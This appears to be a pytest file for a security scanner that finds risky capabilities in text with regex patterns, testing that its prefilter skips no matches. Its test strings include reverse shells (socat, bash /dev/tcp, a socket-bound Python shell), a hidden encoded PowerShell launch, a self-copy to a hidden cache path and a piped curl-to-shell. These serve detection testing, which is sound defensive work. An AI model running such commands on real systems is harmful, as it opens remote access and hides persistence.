"""The capability scan's literal prefilter only skips patterns that could not have matched."""

from __future__ import annotations

import re

import pytest

from redline.redlines import capabilities
from redline.redlines.capabilities import _PREFILTERED, Capability, _required_literals, scan
from tests.redlines.conftest import FIXTURES

TEXTS = sorted(p for p in FIXTURES.rglob("*") if p.is_file())


def _unfiltered(text: str) -> set[tuple[str, int, int]]:
    """Every match of every pattern of the table, none skipped."""
    return {
        (capability.value, match.start(), match.end())
        for capability, pattern, _ in _PREFILTERED
        for match in pattern.finditer(text)
    }


@pytest.mark.parametrize("path", TEXTS, ids=lambda p: f"{p.parent.name}/{p.name}")
def test_scan_finds_what_every_pattern_finds(path: object) -> None:
    text = path.read_text("utf-8")  # type: ignore[attr-defined]
    scanned = {(hit.capability.value, hit.start, hit.end) for hit in scan(text)}
    assert scanned == _unfiltered(text)


@pytest.mark.parametrize(
    ("pattern", "required"),
    [
        (r"\w*Miner\.Anonymous\s*\(", ["miner.anonymous"]),  # a literal after a leading \w*
        (r"\w+\s*(?:\+=|\.append\s*\()\s*\w", [".append", "+="]),  # one of every branch
        (r"(?=[^\n]*secret)\w+\s*=", ["secret"]),  # a lookahead reads the text too
        (r"\w+(?:_token)?\s*=", None),  # an optional group requires nothing
        (r"\w+\s*(?:ab|c)\s*=", None),  # a branch of one character is too weak a filter
    ],
)
def test_required_literals(pattern: str, required: list[str] | None) -> None:
    parser = __import__("re._parser", fromlist=["parse"])
    found = _required_literals(list(parser.parse(pattern, re.I)))
    assert (sorted(h.lower() for h in found) if found else None) == (
        sorted(required) if required else None
    )


_LONG_PREFIX = "# notes for the maintenance window, read before running anything below\n" * 3


@pytest.mark.parametrize(
    "text",
    [
        # Lower-casing U+0130 gives two characters: positions in the lowered text drift.
        _LONG_PREFIX + "İ note: powershell -nop -w hidden -enc SQBFAFgA\n",
        # A case-blind pattern matches the long s (U+017F) as "s"; it lowers to itself.
        _LONG_PREFIX + "\u017focat tcp:203.0.113.5:4444 exec:/bin/sh\n",
        "run \u017focat tcp:203.0.113.5:4444 exec:/bin/sh\n",  # short: scanned, not looked up
        # Characters outside the basic plane before the literals: positions count characters.
        "\U0001f600 \U0001d518 " * 40 + "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n",
        # A literal preceded by a look-behind and a word boundary, read in context.
        _LONG_PREFIX + "x='/bin/sh'; subprocess.call(['/bin/sh', '-i'], stdin=s.fileno())\n",
        # Many places of a head, the literal needed after it standing last, first, or between:
        # places past its last one are not tried, those before still are.
        "cp build/a.txt out/; " * 20 + 'cp "$0" ~/.cache/.updater; cp x y\n',
        'cp "$0" ~/.cache/.updater; ' + "cp build/a.txt out/; " * 20 + "\n",
        "cp a b; " * 12 + 'CP "${0}" ~/.Sync; ' + "cp a b; " * 12 + "Copy-Item $PSCommandPath x\n",
    ],
    ids=[
        "length-changing-lowercase",
        "long-s",
        "long-s-short-text",
        "astral-characters",
        "context-before-literal",
        "tail-literal-last",
        "tail-literal-first",
        "tail-literal-between",
    ],
)
def test_scan_tries_literals_only_where_positions_hold(text: str) -> None:
    scanned = {(hit.capability.value, hit.start, hit.end) for hit in scan(text)}
    assert scanned == _unfiltered(text)


def test_prefilter_literals_are_ascii() -> None:
    """Folding the four case-blind letters outside ASCII is enough only for ASCII literals:
    the heads a pattern is tried at and the literals that bound how far on it is tried."""
    assert all(head.isascii() for _, _, heads in _PREFILTERED for head in heads or ())
    assert all(tail.isascii() for tails in capabilities._TAILS for tail in tails or ())


def test_a_line_of_heads_without_what_follows_them_is_not_tried() -> None:
    """A pattern needing `$0` or `__file__` after its `cp` is tried at none of a thousand `cp `
    when neither stands in the text: each try would read to the line's end."""
    line = "cp " * 1_000
    lowered = capabilities.lowered_once(line)
    places = [3 * i for i in range(1_000)]
    self_copies = [
        index
        for index, (capability, _, heads) in enumerate(_PREFILTERED)
        if capability is Capability.SELF_COPY and heads and "cp" in heads
    ]
    assert self_copies
    assert all(capabilities._reachable(i, lowered, places) == [] for i in self_copies)
    followed = lowered + "__filename $0"  # what each needs, after the last `cp`: all tried
    assert all(capabilities._reachable(i, followed, places) == places for i in self_copies)


def _some_offensive_fixtures() -> list[str]:
    return [p.read_text("utf-8") for p in TEXTS if p.name.startswith("offensive")][:40]


def test_text_with_unicode_spaces_is_read_with_the_patterns_themselves() -> None:
    """Unicode's `\\s` holds \\x1c-\\x1f and ASCII's does not: text holding them is not read
    with the ASCII twins, so every space turned into \\x1f still separates as before."""
    for text in _some_offensive_fixtures():
        separated = text.replace(" ", "\x1f")
        assert separated.isascii() and not capabilities.reads_as_ascii(separated)
        scanned = {(hit.capability.value, hit.start, hit.end) for hit in scan(separated)}
        assert scanned == _unfiltered(separated)
    assert any(_unfiltered(text.replace(" ", "\x1f")) for text in _some_offensive_fixtures())


@pytest.mark.parametrize(
    ("text", "plain"),
    [("kill -9 1\n", True), ("caf\u00e9\n", False), ("a\x1cb", False), ("", True)],
)
def test_reads_as_ascii(text: str, plain: bool) -> None:
    assert capabilities.reads_as_ascii(text) is plain


def test_a_pattern_naming_an_ascii_lookalike_is_its_own_twin() -> None:
    """Case-blind, the Kelvin sign matches `k` and the long s matches `s`: a pattern naming
    them (or a range holding one) keeps Unicode's reading even of ASCII text; one naming any
    other character outside ASCII, which matches no ASCII text either way, has a twin."""
    for source in ("\u212aill", "[\u017f]ocat", "(?:a|\u0130)x", "[\u0100-\u024f]x"):
        pattern = re.compile(source, re.I)
        assert capabilities.ascii_twin(pattern) is pattern
    assert capabilities.ascii_twin(re.compile("\u212aill", re.I)).search("kill") is not None
    ellipsis = re.compile(r"curl[^\n]*(?:\u2026|\|\s*sh\b)", re.I)
    assert capabilities.ascii_twin(ellipsis) is not ellipsis
    assert capabilities.ascii_twin(ellipsis).search("CURL -s x | sh") is not None
    plain = re.compile(r"\bkill\s+-9\b", re.I)
    twin = capabilities.ascii_twin(plain)
    assert twin is not plain and twin.flags & re.ASCII
    assert [m.span() for m in twin.finditer("KILL -9 1; kill\t-9 2")] == [
        m.span() for m in plain.finditer("KILL -9 1; kill\t-9 2")
    ]
